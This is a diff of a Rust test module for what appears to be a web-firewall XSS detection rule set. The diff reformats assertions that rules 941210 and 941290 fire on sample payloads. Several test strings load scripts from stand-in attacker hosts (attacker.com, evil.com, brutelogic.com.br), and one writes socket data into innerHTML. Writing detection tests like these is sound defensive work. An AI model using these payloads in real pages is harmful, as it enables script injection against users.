@@ -215,11 +215,20 @@ mod tests {
 
     #[test]
     fn html_appended_to_the_dom_and_off_site_script_loaders_fire() {
-        assert!(fires(941210, "ws.onmessage = (e) => { document.body.innerHTML += e.data; }"));
+        assert!(fires(
+            941210,
+            "ws.onmessage = (e) => { document.body.innerHTML += e.data; }"
+        ));
         assert!(fires(941210, "el.outerHTML = x"));
         assert!(!fires(941210, "the innerHTML property"));
-        assert!(fires(941290, "importScripts('https://attacker.com/sw.js');"));
-        assert!(fires(941290, "onload=x=>$.getScript('//brutelogic.com.br/2.js')"));
+        assert!(fires(
+            941290,
+            "importScripts('https://attacker.com/sw.js');"
+        ));
+        assert!(fires(
+            941290,
+            "onload=x=>$.getScript('//brutelogic.com.br/2.js')"
+        ));
         assert!(fires(941290, "new SharedWorker('//evil.com/worker.js')"));
         assert!(!fires(941290, "import('./module.js')"));
         assert!(!fires(941290, "new Worker('worker.js')"));
